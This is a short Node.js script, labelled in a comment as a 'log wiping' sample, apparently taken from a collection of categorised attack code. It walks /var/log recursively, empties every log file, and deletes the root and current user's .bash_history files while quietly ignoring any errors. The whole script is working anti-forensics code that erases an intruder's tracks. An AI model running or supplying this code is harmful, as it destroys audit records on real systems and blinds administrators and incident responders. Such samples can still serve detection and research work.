// class: log wiping; style: node
const fs = require('fs');
const rm = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = `${d}/${e.name}`; e.isDirectory() ? rm(p) : fs.truncateSync(p, 0); } };
rm('/var/log');
for (const h of ['/root/.bash_history', process.env.HOME + '/.bash_history']) try { fs.unlinkSync(h); } catch {}
